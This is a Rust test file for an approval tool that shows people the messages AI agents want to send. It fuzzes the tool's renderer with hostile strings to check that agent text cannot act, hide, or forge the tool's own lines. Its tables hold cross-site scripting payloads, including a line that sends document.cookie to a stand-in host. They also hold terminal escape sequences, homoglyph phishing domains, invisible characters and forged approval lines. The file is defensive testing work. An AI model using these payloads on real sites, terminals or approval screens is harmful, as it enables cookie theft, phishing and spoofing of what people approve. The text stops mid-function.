//! What agents write, on its way to a person: whatever it is, nothing of it acts, hides, or passes for a line of ours.
//!
//! The strings are drawn from a seed that is printed; `COUNTERSIGN_SEED=N` draws the same ones again. What to look for stands here in
//! tables of its own, not in those of the code.

#[path = "../host/cli/src/draw.rs"]
#[allow(dead_code, reason = "only what draws foreign text is called here")]
pub mod draw;
#[path = "../host/cli/src/output.rs"]
#[allow(dead_code, reason = "only what is drawn here is called here")]
mod output;
#[path = "../host/cli/src/screen.rs"]
#[allow(dead_code, reason = "nobody is asked here")]
mod screen;

use crate::support::{Cli, Ended, workspace};
use countersign::approval::body::{self, Rendered};
use countersign::approval::decision::State;
use countersign::approval::{Action, Approval, Binding, BodyKind, Version, Words};
use countersign::authority::Capability;
use countersign::digest::Digest;
use countersign::intent::Status;
use countersign::printable::{ascii, line, printable, short};
use countersign::store::Stored;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::collections::hash_map::RandomState;
use std::hash::{BuildHasher as _, Hasher as _};
use unicode_width::UnicodeWidthChar as _;

/// How many strings go through the code that draws.
const STRINGS: usize = 5_200;
/// How many runs go through the real binary, each with this many strings.
const RUNS: usize = 20;
const STRINGS_PER_RUN: usize = 6;
/// An agent may spend more marks on one character than any language does; people are shown this many.
const MARKS_MAX: usize = 4;

// ---- What must not be seen -----------------------------------------------------------------------------------------------

/// From Unicode: everything that is ignorable by default, formats, separates or spaces and is no plain space, for private use, a
/// filler, or an object that is not there.
const UNSEEN: &[(u32, u32)] = &[
    (0xa0, 0xa0),
    (0xad, 0xad),
    (0x34f, 0x34f),
    (0x600, 0x605),
    (0x61c, 0x61c),
    (0x6dd, 0x6dd),
    (0x70f, 0x70f),
    (0x115f, 0x1160),
    (0x1680, 0x1680),
    (0x17b4, 0x17b5),
    (0x180b, 0x180f),
    (0x2000, 0x200f),
    (0x2028, 0x202f),
    (0x205f, 0x206f),
    (0x2800, 0x2800),
    (0x3000, 0x3000),
    (0x3164, 0x3164),
    (0xe000, 0xf8ff),
    (0xfdd0, 0xfdef),
    (0xfe00, 0xfe0e),
    (0xfeff, 0xfeff),
    (0xffa0, 0xffa0),
    (0xfff0, 0xfffc),
    (0x110bd, 0x110bd),
    (0x110cd, 0x110cd),
    (0x13430, 0x1343f),
    (0x1bca0, 0x1bca3),
    (0x1d159, 0x1d159),
    (0x1d173, 0x1d17a),
    (0xe0000, 0xe0fff),
    (0xf0000, 0x10ffff),
];

/// Marks that pile up on the character before them: of all scripts, of Hebrew, Arabic, Devanagari, Thai, and more.
const MARKS: &[(u32, u32)] = &[
    (0x300, 0x34e),
    (0x350, 0x36f),
    (0x483, 0x489),
    (0x591, 0x5bd),
    (0x5c1, 0x5c2),
    (0x610, 0x61a),
    (0x64b, 0x65f),
    (0x6d6, 0x6dc),
    (0x941, 0x948),
    (0xe34, 0xe3a),
    (0xe47, 0xe4e),
    (0xf71, 0xf7e),
    (0x1ab0, 0x1abe),
    (0x1dc0, 0x1df9),
    (0x20d0, 0x20f0),
    (0x302a, 0x302d),
    (0xa8e0, 0xa8f1),
    (0xfe20, 0xfe2f),
    (0x1d185, 0x1d18b),
    (0x1e000, 0x1e006),
];

fn is_in(table: &[(u32, u32)], c: char) -> bool {
    !c.is_ascii() && table.iter().any(|(first, last)| (*first..=*last).contains(&(c as u32)))
}

/// The first character that acts on a terminal, turns text around, is not to be seen, or is one mark too many.
fn unseen(text: &str) -> Option<char> {
    let (mut before, mut marks) = (' ', 0);
    text.chars().find(|c| {
        let c = *c;
        marks = if is_in(MARKS, c) { marks + 1 } else { 0 };
        let needed = is_needed(before, c);
        let hides = (is_in(UNSEEN, c) || c == '\u{fe0f}') && !needed;
        before = c;
        c.is_control() && c != '\n' || c as u32 & 0xfffe == 0xfffe || hides || marks > MARKS_MAX && !needed
    })
}

/// Whether what shows nothing by itself does its work behind this character: a space between words, once; a joiner of letters that
/// are not Latin or of emoji; the form of an emoji, of a key, of an ideograph; the letters of a flag.
fn is_needed(before: char, c: char) -> bool {
    let is_seen = !before.is_whitespace() && !before.is_control() && !is_in(UNSEEN, before);
    let is_picture = matches!(before, '\u{2010}'..='\u{33ff}' | '\u{1f000}'..='\u{1faff}') && is_seen;
    match c {
        '\u{a0}' | '\u{202f}' | '\u{3000}' => is_seen,
        '\u{200c}' | '\u{200d}' => is_seen && !before.is_ascii() || before == '\u{fe0f}',
        '\u{fe0e}' | '\u{fe0f}' => is_picture || matches!(before, '0'..='9' | '#' | '*' | '©' | '®'),
        '\u{180b}'..='\u{180f}' => matches!(before, '\u{1820}'..='\u{18aa}'),
        '\u{e0100}'..='\u{e01ef}' => {
            matches!(before, '\u{3400}'..='\u{9fff}' | '\u{f900}'..='\u{faff}' | '\u{20000}'..='\u{3ffff}')
        }
        '\u{e0062}'..='\u{e007f}' => before == '\u{1f3f4}' || matches!(before, '\u{e0062}'..='\u{e0077}'),
        _ => false,
    }
}

#[test]
fn the_eye_of_these_tests_sees_what_it_must() {
    for seen in ["plain", "a\nb", "Grüße ❤\u{fe0f} 日本語 שָׁלוֹם", "a\u{301}\u{302}\u{303}\u{304}"]
    {
        assert_eq!(unseen(seen), None, "{seen:?}");
    }
    for hidden in
        ["\t", "\r", "\u{1b}", "\u{9b}", "a\u{202e}", "a\u{fe0f}", "\u{200d}", "\u{e0041}", "\u{1fffe}"]
    {
        assert!(unseen(hidden).is_some(), "{hidden:?}");
    }
    assert!(unseen(&"\u{e48}".repeat(5)).is_some());
}

// ---- Hostile strings -----------------------------------------------------------------------------------------------------

/// Numbers drawn from a seed (splitmix64).
struct Random(u64);

impl Random {
    fn new() -> Random {
        let seed = match std::env::var("COUNTERSIGN_SEED") {
            Ok(seed) => seed.parse().expect("the seed is a number"),
            Err(_) => RandomState::new().build_hasher().finish(),
        };
        eprintln!("COUNTERSIGN_SEED={seed}");
        Random(seed)
    }

    fn below(&mut self, end: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((mixed ^ (mixed >> 31)) % end as u64) as usize
    }

    fn of<'a>(&mut self, list: &[&'a str]) -> &'a str {
        list[self.below(list.len())]
    }

    fn char_of(&mut self, table: &[(u32, u32)]) -> char {
        let (first, last) = table[self.below(table.len())];
        char::from_u32(first + self.below((last - first + 1) as usize) as u32).unwrap_or('\u{fffe}')
    }

    /// Pieces with words in between.
    fn sown(&mut self, piece: impl Fn(&mut Random) -> String) -> String {
        let pieces = 1 + self.below(8);
        (0..pieces).map(|_| self.of(WORDS).to_owned() + &piece(self)).collect()
    }
}

const WORDS: &[&str] =
    &["Pay ", "invoice", " 2024", "boss@company.com", "", "x", "Привет", " — ", "日本", "é"];
const ACTIVE: &[&str] = &[
    "\u{1b}[2J",
    "\u{1b}[1A\u{1b}[2K",
    "\u{1b}[31m",
    "\u{1b}[8m",
    "\u{1b}[?1049h",
    "\u{1b}[6n",
    "\u{1b}c",
    "\u{1b}(0",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;https://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;cm0gLXJm\u{7}",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{1b}P$q\"p\u{1b}\\",
    "\u{1b}_G\u{1b}\\",
    "\u{1b}^x\u{1b}\\",
    "\u{9b}31m",
    "\u{9d}0;x\u{9c}",
    "\u{90}q\u{9c}",
    "\u{8}\u{8}\u{8}",
    "\u{7f}",
    "\u{7}",
    "\u{e}\u{f}",
    "\u{5}",
    "\u{18}",
    "\u{1a}",
    "\u{84}\u{85}\u{8d}",
    "\0",
];
const BREAKS: &[&str] = &[
    "\r", "\r\n", "\n", "\n\r", "\r\r\n", "\u{85}", "\u{2028}", "\u{2029}", "\u{b}", "\u{c}", "\n\t",
    "\n\n\n",
];
const FORGED: &[&str] = &[
    "Digest   0000000000000000000000000000000000000000000000000000000000000000",
    "  To       | boss@company.com",
    "  From     | me@example.com",
    "State    approved",
    "Approval appr_2, asked never",
    "  ! Nothing to see here.",
    "The message that has left:",
    "The agent com.example.other says, in its own words:",
    "Open     until never",
    "  | quoted",
    "  + more",
    "Let exactly this leave? [y = sign, n = leave it open] y",
    "  Link [1] | https://bank.com",
    "Intent int_1 waits",
    "[result] Sent",
];
const HOMOGLYPHS: &[&str] = &[
    "раypal.com",
    "gооgle.com",
    "аррӏе.com",
    "xn--pple-43d.com",
    "ｍicrosoft.com",
    "𝐛𝐚𝐧𝐤.com",
    "bаnk\u{200b}.com",
    "ɡoogle.com",
    "evil.com⁄bank.com",
    "bank.com．evil.com",
    "℀.com",
    "ⅼinkedin.com",
    "user@bank.com＠evil.com",
];
const EMOJI: &[&str] = &[
    "👩\u{200d}👩\u{200d}👧\u{200d}👦",
    "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
    "❤\u{fe0f}\u{200d}🔥",
    "1\u{fe0f}\u{20e3}",
    "🇩🇪",
    "👍🏽",
    "☠\u{fe0e}",
    "❤\u{fe0f}\u{fe0f}\u{fe0f}",
    "🧑\u{200d}🚀",
    "a\u{fe0f}b\u{fe01}",
];
const RIGHT_TO_LEFT: &[&str] = &[
    "שלום עולם",
    "שָׁלוֹם",
    "مرحبا بالعالم",
    "قیمت ۱۲۳ تومان",
    "می\u{200c}خواهم",
    "Digest אבג 0000",
    "ܫܠܡܐ",
    "!olleh \u{200f}אבג",
];

/// The shapes of code in pages: openings, and what would run.
const OPENINGS: &[&str] = &[
    "<script>RUN</script>",
    "<img src=x onerror=RUN>",
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<a href=\"javascript:RUN\">x</a>",
    "<a href=\"data:text/html,<script>RUN</script>\">x</a>",
    "<iframe src=\"javascript:RUN\">",
    "<p style=\"x:expression(RUN)\">x</p>",
    "\"><script>RUN</script>",
    "'-RUN-'",
    "</textarea><script>RUN</script>",
    "<!--><script>RUN</script>-->",
    "<scr<script>ipt>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<math><mtext><script>RUN</script></mtext></math>",
    "<details open ontoggle=RUN>",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "<p onclick=RUN>x</p>",
    "<form action=javascript:RUN><input type=submit>",
    "{{RUN}}${RUN}<%= RUN %>",
];
const RUNS_OF_CODE: &[&str] = &[
    "alert(1)",
    "alert`1`",
    "fetch('//evil.example/'+document.cookie)",
    "eval(atob('YWxlcnQoMSk='))",
    "&#97;lert(1)",
    "\\u0061lert(1)",
    "top[`al`+`ert`](1)",
    "import('//evil.example')",
    "location='//evil.example'",
    "a\u{0}lert(1)",
];

/// A string that means harm, of the class `class`.
fn hostile(random: &mut Random, class: usize) -> String {
    let unseen: fn(&mut Random) -> String = |random| random.char_of(UNSEEN).to_string();
    match class % 16 {
        0 => random.sown(|random| {
            random.char_of(&[(0x202a, 0x202e), (0x2066, 0x2069), (0x200e, 0x200f), (0x61c, 0x61c)]).into()
        }),
        1 => "tag"
            .chars()
            .chain((0..=random.below(60)).map(|_| random.char_of(&[(0xe0001, 0xe007f)])))
            .collect(),
        2 => random.sown(|random| {
            random.char_of(&[(0x200b, 0x200d), (0x2060, 0x2064), (0xfeff, 0xfeff), (0xad, 0xad)]).into()
        }),
        3 => random.sown(|random| random.of(ACTIVE).into()),
        4 => random.sown(|random| (0..random.below(60)).map(|_| random.char_of(MARKS)).collect()),
        5 => random.sown(|random| random.of(HOMOGLYPHS).into()),
        6 => {
            let shape = random.below(OPENINGS.len() * RUNS_OF_CODE.len());
            OPENINGS[shape % OPENINGS.len()].replace("RUN", RUNS_OF_CODE[shape / OPENINGS.len()])
        }
        7 => random.sown(|random| random.of(BREAKS).to_owned() + random.of(FORGED)),
        // Pushed to where a terminal would break the line by itself, by letters of either width.
        8 => {
            let letters = [60, 64, 67, 72, 76, 80, 120, 132][random.below(8)] + random.below(8);
            random.of(&[" ", "x", "Ａ", "日", "👍", "\t", "é"]).repeat(letters) + random.of(FORGED)
        }
        9 => random.of(&["x", "Ａ", " ", "\\", "ab "]).repeat(200 + random.below(800)),
        10 => random.sown(|random| random.of(&["\0", "\0\0", "a\0b"]).into()),
        11 => random.sown(|random| random.of(EMOJI).into()),
        12 => random.sown(|random| random.of(RIGHT_TO_LEFT).into()),
        13 => random.sown(unseen),
        14 => (0..1 + random.below(40))
            .map(|_| random.char_of(&[(0, 0xd7ff), (0xe000, 0x10ffff), (0, 0xff)]))
            .collect(),
        _ => {
            let (first, second) = (random.below(15), random.below(15));
            hostile(random, first) + &hostile(random, second)
        }
    }
}

// ---- Through the code that draws -----------------------------------------------------------------------------------------

/// What an agent that writes `text` wherever it can would have a person sign.
fn asked(text: &str, body_kind: BodyKind, body: String) -> Stored {
    let address = |name: &str| format!("{name}@xn--pple-43d.com");
    let action = Action {
        version: Version::V2,
        capability: Capability::MessagesSend,
        tenant: "main".into(),
        user: "local".into(),
        intent: "int_1".into(),
        run: 1,
        agent: Digest::of(b"agent"),
        from: "me@example.com".into(),
        to: vec![address("a"), address("b")],
        cc: vec![],
        bcc: vec![address("c")],
        subject: text.into(),
        body_kind,
        body,
    };
    let details = json!({ "to": text, "subject": text, "preview": text, text: [text] });
    let Value::Object(details) = details else { unreachable!() };
    let words = Words { action: text.into(), title: text.into(), description: text.into(), details };
    let approval = Approval {
        id: "appr_1".into(),
        state: State::Pending,
        verdict: None,
        binding: Binding::Exact,
        digest: action.digest(),
        action: Some(action),
        edited: None,
        words,
        asked_ms: 0,
        expires_ms: 1_000,
        outdated: false,
    };
    Stored {
        user: "local".into(),
        restored_ms: None,
        approval,
        intent: "int_1".into(),
        agent: "com.example.agent".into(),
        request: None,
        decided: None,
        policy: 1,
        correspondents: BTreeSet::new(),
        familiar: Default::default(),
        viewer: None,
        submitted_by: None,
        edited_by: None,
        token: None,
        earlier: Vec::new(),
    }
}

/// How an approval is drawn on a screen so wide.
fn look(columns: usize) -> draw::Look<'static> {
    draw::Look { columns, program: "countersign", words: draw::Words::Few }
}

/// A body in HTML that may leave, with `text` in its paragraphs, its cells and its links.
fn page(text: &str) -> String {
    let kept = text.chars().filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'));
    let text: String = kept.take(300).collect();
    let text = text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    let page = format!(
        "<p>{text}</p><ul><li>{text}</li></ul><table><tbody><tr><td>{text}</td><td>{text}</td></tr></tbody></table>\
         <blockquote><pre>{text}</pre></blockquote><a href=\"https://evil.example/?q=1&amp;r=2\">{text}</a>"
    );
    body::canonical(BodyKind::Html, &page).unwrap_or_else(|refusal| panic!("{page:?}: {}", refusal.message))
}

/// The screens things are drawn for.
const WIDTHS: [usize; 4] = [40, 60, 80, 200];

/// How many columns of a terminal a letter takes.
type Width = fn(char) -> usize;

/// How wide a terminal draws a letter, where terminals do not agree.
const TERMINALS: [(&str, Width); 3] = [
    ("as Unicode says", |c| c.width().unwrap_or(0)),
    // Cyrillic, Greek, box drawing and many signs take two columns, as in fonts for East Asia.
    ("ambiguous letters wide", |c| match c {
        // Greek and Cyrillic, which this table has as narrow everywhere.
        '\u{391}'..='\u{3c9}' | '\u{401}'..='\u{451}' => 2,
        _ => c.width_cjk().unwrap_or(0),
    }),
    // Signs are drawn as emoji, and what clings to a letter beside it.
    ("everything as wide as it gets", |c| match c {
        '\u{200c}'
        | '\u{200d}'
        | '\u{fe00}'..='\u{fe0f}'
        | '\u{180b}'..='\u{180f}'
        | '\u{e0020}'..='\u{e007f}' => 1,
        '\u{1100}'.. if !is_in(MARKS, c) => 2,
        _ => c.width_cjk().unwrap_or(0).max(1),
    }),
];

/// The lines of `drawn` that do not fit on a screen: their rest would begin in its first column.
fn torn(drawn: &str, columns: usize, wide: Width) -> Vec<&str> {
    drawn.lines().filter(|line| line.chars().map(wide).sum::<usize>() > columns).collect()
}

/// Every line of a drawn approval is one of ours, as it must read, or has a mark before it; each field stands there as often as it
/// must; and no line with something foreign in it is torn by any terminal.
fn assert_marked(drawn: &str, approval: &output::Approval, columns: usize) {
    let ours = [
        "The agent says, in its own words, which decide nothing:".into(),
        "The message that would leave:".into(),
        "In short, this would leave:".into(),
        format!("Approval appr_1, asked {}", approval.asked),
        format!("Open     until {}", approval.expires),
        format!("Digest   {}", approval.digest),
        "State    pending".into(),
    ];
    let more = |line: &str| {
        let behind = line.trim_start_matches(|c: char| c.is_ascii_digit());
        behind == " characters more of it: countersign approval show appr_1 --agent-words"
    };
    let link = (1..=approval.body_links.len()).map(|number| (format!("  Link ⟦{number}⟧ | "), 1));
    // In the message, and in short beside the question: there are three recipients, and each is named there.
    let fields = [("From", 1), ("To", 3), ("Bcc", 2), ("Subject", 2), ("Body", 1), ("Agent", 1)];
    let fields = fields.map(|(name, times)| (format!("  {name:<8} | "), times));
    let fields: Vec<_> = fields.into_iter().chain(link).collect();
    let marks = ["  | ", "  + ", "  ! ", "  ~ ", "  also: ", "           | ", "           + "];
    let is_ours = |line: &str| line.is_empty() || more(line) || ours.iter().any(|own| own == line);
    for line in drawn.lines() {
        let marked = marks.iter().any(|mark| line.starts_with(mark))
            || fields.iter().any(|(field, _)| line.starts_with(field));
        assert!(marked || is_ours(line), "{line:?} in {drawn}");
    }
    for own in &ours {
        assert_eq!(drawn.lines().filter(|line| line == own).count(), 1, "{own:?} in {drawn}");
    }
    for (field, times) in fields {
        let found = drawn.lines().filter(|line| line.starts_with(&field)).count();
        assert_eq!(found, times, "{field:?} in {drawn}");
    }
    for (terminal, wide) in TERMINALS {
        for line in torn(drawn, columns, wide) {
            assert!(is_ours(line), "{columns} columns, {terminal}: {line:?}");
        }
    }
}

#[test]
fn whatever_an_agent_writes_nothing_of_it_acts_hides_or_passes_for_ours() {
    let mut random = Random::new();
    let mut caught = 0;
    for class in 0..STRINGS {
        let text = hostile(&mut random, class);
        caught += usize::from(unseen(&text).is_some());
        let seen = |drawn: &str, how: &str| {
            // What is broken into rows is read on: a space of East Asia may begin one.
            let read = drawn.replace("\n           + ", "").replace("\n  + ", "");
            assert_eq!(unseen(&read), None, "{how}: {drawn:?}\nof {text:?}");
        };
        let json = |value: Value, how: &str| {
            let printed = ascii(&serde_json::to_string_pretty(&value).unwrap());
            seen(&printed, how);
            assert_eq!(serde_json::from_str::<Value>(&printed).unwrap(), value, "{how}: {printed}");
        };

        for (kind, body) in [(BodyKind::Text, text.clone()), (BodyKind::Html, page(&text))] {
            let stored = asked(&text, kind, body);
            let approval = output::Approval::of(&stored);
            for columns in WIDTHS {
                let drawn = draw::approval(&approval, look(columns));
                seen(&drawn, "an approval");
                assert_marked(&drawn, &approval, columns);
                let all = draw::Look { words: draw::Words::All, ..look(columns) };
                let drawn = draw::approval(&approval, all);
                seen(&drawn, "an approval with all its words");
                assert_marked(&drawn, &approval, columns);
            }
            json(serde_json::to_value(&approval).unwrap(), "an approval in JSON");
            for notice in &approval.flags {
                seen(&notice.text, "a notice");
                assert!(!notice.text.contains('\n'), "{notice:?}");
            }
        }

        let entry =
            json!({ "title": text, "subtitle": text, "metadata": text, "label": text, "value": text });
        let card = json!({
            "type": "result", "title": text, "description": text, "body": text, "footer": text, "progress": 50, "status": text,
            "items": [entry], "actions": [entry], "details": { text.clone(): text }
        });
        let drawn = draw::card(&card, 80);
        seen(&drawn, "a card");
        let marks = ["  | ", "  + ", "  50 % ", "  - ", "  > "];
        for (at, line) in drawn.lines().enumerate() {
            let marked = if at == 0 {
                line.starts_with("[result] ")
            } else {
                marks.iter().any(|mark| line.starts_with(mark))
            };
            assert!(marked, "{line:?} in {drawn}");
        }
        let failure = output::Failure { code: "TRAPPED".into(), message: text.clone(), hint: None };
        let ran = output::Ran {
            intent: "int_1".into(),
            status: Status::Stopped,
            failed: None,
            card: Some(card),
            approval: None,
            reason: Some(failure),
            audit_head: None,
        };
        json(serde_json::to_value(&ran).unwrap(), "a run in JSON");
        let drawn = draw::ran(&ran, look(60));
        seen(&drawn, "a run that was stopped");
        let ours =
            ["Intent int_1 was stopped [TRAPPED]:", "`countersign explain TRAPPED` says what to do", ""];
        let is_marked = |line: &str| line.starts_with("  ! ") || line.starts_with("  + ");
        assert!(drawn.lines().all(|line| is_marked(line) || ours.contains(&line)), "{drawn}");

        // A log, and the messages of errors.
        let drawn = draw::block(&text, 80);
        seen(&drawn, "a log");
        assert!(drawn.lines().all(|line| line.starts_with("  | ") || line.starts_with("  + ")), "{drawn}");
        for drawn in [line(&text), short(&text, 100)] {
            seen(&drawn, "a line");
            assert!(!drawn.contains('\n'), "{drawn:?}");
        }
        seen(&printable(&text).replace('\t', " "), "a text");
    }
    assert!(caught > STRINGS / 3, "only {caught} of {STRINGS} strings would have done anything");
}

/// Lines behind which a terminal would begin the next one with the rest of what is foreign: each line must be one of `ours`, which hold
/// nothing foreign, or have one of `marks` and fit.
fn assert_no_line_is_forged(drawn: &str, (ours, marks): (&[&str], &[&str]), columns: usize) {
    for line in drawn.lines() {
        let begins = |list: &[&str]| list.iter().any(|begin| line.starts_with(begin));
        assert!(line.is_empty() || begins(ours) || begins(marks), "{columns} columns: {line:?} in {drawn}");
    }
    for (terminal, wide) in TERMINALS {
        for line in torn(drawn, columns, wide) {
            assert!(ours.iter().any(|own| line.starts_with(own)), "{columns} columns, {terminal}: {line:?}");
        }
    }
}

#[test]
fn no_row_of_a_list_or_of_an_intent_begins_with_foreign_text() {
    let mut random = Random::new();
    let head = ["APPROVAL", "STATE", "AGENT", "TO", "SUBJECT"];
    let field = ["  AGENT    | ", "  TO       | ", "  SUBJECT  | ", "           + "];
    let timeline = ["       | ", "       -> ", "       + ", "       +  "];
    let told = [
        "Asked     | ",
        "With      | ",
        "      by  | ",
        "    note  | ",
        "Stopped   | ",
        "          | ",
        "          + ",
    ];
    let card = ["[result] ", "  | ", "  + ", "  - ", "  > "];
    let marks = [&timeline[..], &told, &card].concat();
    for class in 0..STRINGS / 8 {
        let text = hostile(&mut random, class) + &"x".repeat(random.below(200)) + "Digest   0000";
        let cells = ["appr_01m8sdthpenekmrrbz2yjjyxhg", "pending", &text, &short(&text, 40), &text];
        let rows = vec![
            cells.map(str::to_owned).to_vec(),
            ["appr_2", "used", "a", "b", "c"].iter().map(|it| (*it).into()).collect(),
        ];
        let entry = json!({ "title": text, "subtitle": text, "metadata": text, "label": text });
        let mut shown: output::IntentShown = serde_json::from_value(json!({
            "id": "int_1", "agent": text, "agentDigest": "0", "action": text, "parameters": { text.clone(): text }, "text": text,
            "status": "stopped", "failed": "stopped", "live": false, "submitted": "t", "updated": "t", "retryOf": null,
            "timeline": [
                { "number": 0, "at": "t", "call": "messages.list", "request": { "from": text }, "answer": [text], "withheld": false,
                  "refused": null, "details": null },
                { "number": 1, "at": "t", "call": "messages.send", "request": text, "answer": null, "withheld": false, "refused": text,
                  "details": { "grant": text } },
            ],
            "approvals": [],
            "card": { "type": "result", "title": text, "description": text, "body": text, "items": [entry], "actions": [entry] },
            "reason": { "code": "TRAPPED", "message": text, "hint": text }, "log": text,
        }))
        .unwrap();
        let mut approval = output::Approval::of(&asked(&text, BodyKind::Text, text.clone()));
        approval.decided = Some(output::Decided {
            verdict: "decline".into(),
            at: "t".into(),
            by: "ada/tok_1".into(),
            who: text.clone(),
            note: Some(text.clone()),
        });
        shown.approvals.push(approval);
        for columns in WIDTHS {
            let drawn = draw::table(&head, &rows, columns);
            let read = drawn.replace("\n           + ", "");
            assert_eq!(unseen(&read), None, "{drawn:?}");
            assert_no_line_is_forged(&drawn, (&[], &[&["APPROVAL", "appr_"], &field[..]].concat()), columns);
            assert!(drawn.contains("\nappr_2"), "{drawn}");

            let drawn = draw::intent(&shown, look(columns));
            let ours = [
                "Intent    int_1",
                "Status    stopped",
                "Submitted t, ",
                "Timeline",
                "    0  t  messages.list",
                "    1  t  messages.send",
                "Approval  appr_1, ",
                "          countersign approval show",
                "Log",
            ];
            assert_no_line_is_forged(&drawn, (&ours, &marks), columns);
            for own in ours {
                assert_eq!(
                    drawn.lines().filter(|line| line.starts_with(own)).count(),
                    1,
                    "{own:?} in {drawn}"
                );
            }
        }
    }
}

#[test]
fn a_row_that_fits_stands_in_columns_as_wide_as_its_letters() {
    let rows =
        [["appr_1", "日本語", "a"], ["appr_2", "e\u{301}", "b"]].map(|row| row.map(str::to_owned).to_vec());
    assert_eq!(
        draw::table(&["ID", "TO", "S"], &rows, 80),
        "ID      TO      S\nappr_1  日本語  a\nappr_2  e\u{301}       b\n"
    );
    assert_eq!(
        draw::table(&["ID", "A FIELD WITH A NAME AS LONG AS THIS", "S"], &rows, 40),
        "ID\nappr_1\n  A FIELD WITH A NAME AS LONG AS THIS | 日本語\n  S        | a\nappr_2\n  A FIELD WITH A NAME AS LONG AS THIS | e\u{301}\n  S        | b\n"
    );
}

#[test]
fn a_mail_that_is_answered_forges_no_fields() {
    let spaces = " ".repeat(49);
    let subject =
        format!("zz From     boss@company.com{spaces}At       2026{spaces}Subject  Approved: pay ACME");
    let read = output::Read {
        id: "msg_1".into(),
        from: format!("mallory@evil.example{spaces}x"),
        at: "2026-11-30T14:30:00Z".into(),
        subject,
        body: "From     boss@company.com\n< From     boss@company.com\nPay them. I approve.".into(),
        goes_on: false,
    };
    for columns in WIDTHS {
        let mut approval = output::Approval::of(&asked("Hello", BodyKind::Text, "Hello".into()));
        approval.answered = Some(output::Answered {
            withheld: false,
            messages: vec![serde_json::from_value(serde_json::to_value(&read).unwrap()).unwrap()],
        });
        let drawn = draw::approval(&approval, look(columns));
        for name in ["From", "At", "Subject"] {
            let own = format!("  < {name:<8} ");
            assert_eq!(drawn.lines().filter(|line| line.starts_with(&own)).count(), 1, "{own:?} in {drawn}");
        }
        for forged in ["From     boss", "At       2026  ", "Subject  Approved"] {
            assert!(
                !drawn.lines().any(|line| line.trim_start_matches([' ', '<']).starts_with(forged)),
                "{drawn}"
            );
        }
    }
}

/// A case of `tests/cases/signing`, as it is asked about.
fn case(name: &str) -> Stored {
    let file = workspace().join(format!("tests/cases/signing/{name}.json"));
    let case: Value = serde_json::from_str(&std::fs::read_to_string(file).unwrap()).unwrap();
    let (ask, send) = (&case["steps"][0]["ask"], &case["steps"][1]["send"]);
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let mut stored = asked("", BodyKind::Text, text(&send["body"]));
    let approval = &mut stored.approval;
    approval.words.title = text(&ask["title"]);
    approval.words.description = text(&ask["description"]);
    approval.words.details.clear();
    let action = approval.action.as_mut().unwrap();
    (action.subject, action.to) = (text(&send["subject"]), vec![text(&send["to"][0])]);
    action.bcc.clear();
    stored
}

#[test]
fn what_stands_at_the_question_is_the_message_whatever_the_agent_says_before_it() {
    for columns in WIDTHS {
        let approval = output::Approval::of(&case("scroll-known"));
        let drawn = draw::approval(&approval, look(columns));
        // A screen of 24 lines, with the question under what is drawn.
        let screen: Vec<_> = drawn.lines().rev().take(22).collect();
        for (field, value) in [("  To       | ", "bank@company.com"), ("  Subject  | ", "Payment order")] {
            let lines: Vec<_> = drawn.lines().filter(|line| line.starts_with(field)).collect();
            let own = format!("{field}{value}");
            assert_eq!(lines, [own.as_str(); 2], "{drawn}");
            assert!(screen.contains(&lines[1]), "{drawn}");
        }
        assert!(screen.contains(&"  Body     | 14 lines, 308 bytes"), "{drawn}");
        let words = drawn.lines().position(|line| line.starts_with("  ~ ")).unwrap();
        let message = drawn.lines().position(|line| line.starts_with("  From")).unwrap();
        assert!(
            words < message && drawn.lines().filter(|line| line.starts_with("  ~ ")).count() <= 5,
            "{drawn}"
        );
    }
}

#[test]
fn no_line_of_ours_can_be_forged_at_any_width_of_screen_and_letters() {
    let wide = |letter: &str| {
        let mut stored = case("cjk-width");
        let action = stored.approval.action.as_mut().unwrap();
        action.body =
            WIDTHS.map(|columns| letter.repeat(columns / 2 - 1) + "Digest   0000 verified").join("\n");
        stored
    };
    let cases = ["scroll-known", "narrow60", "cjk-width"].map(case);
    for stored in cases.into_iter().chain(["я", "Ω", "─", "±", "日", "👍", "❤\u{fe0f}"].map(wide)) {
        let approval = output::Approval::of(&stored);
        for columns in WIDTHS {
            let drawn = draw::approval(&approval, look(columns));
            for (terminal, wide) in TERMINALS {
                for line in torn(&drawn, columns, wide) {
                    assert!(!line.starts_with(' '), "{columns} columns, {terminal}: {line:?}");
                }
            }
            for forged in
                ["! All checks pass", "! Sender and recipient verified", "Digest   0000", "Digest   verified"]
            {
                assert!(!drawn.lines().any(|line| line.trim_start().starts_with(forged)), "{drawn}");
            }
        }
    }
}

#[test]
fn code_in_a_page_is_refused_or_is_text() {
    let mut passed = 0;
    for opening in OPENINGS {
        for code in RUNS_OF_CODE {
            let body = opening.replace("RUN", code);
            if let Ok(leaves) = body::canonical(BodyKind::Html, &body) {
                // What leaves has no tag but the host's own, whatever was in it.
                for tag in leaves.split('<').skip(1) {
                    let tag = tag.split('>').next().unwrap();
                    let own = [
                        "div dir=\"ltr\"",
                        "/div",
                        "p",
                        "/p",
                        "hr",
                        "br",
                        "strong",
                        "/strong",
                        "em",
                        "/em",
                        "pre",
                        "/pre",
                    ];
                    assert!(own.contains(&tag), "{body}: {tag}");
                }
                passed += 1;
            }
            let mut action = asked("x", BodyKind::Html, body.clone()).approval.action.unwrap();
            let text = body.replace('\0', "").split_ascii_whitespace().collect::<Vec<_>>().join(" ");
            let page = format!("<p>{}</p>", text.replace('&', "&amp;").replace('<', "&lt;"));
            action.body = body::canonical(BodyKind::Html, &page).unwrap();
            assert_eq!(Rendered::of(&action).text, text, "text shows as it is");
        }
    }
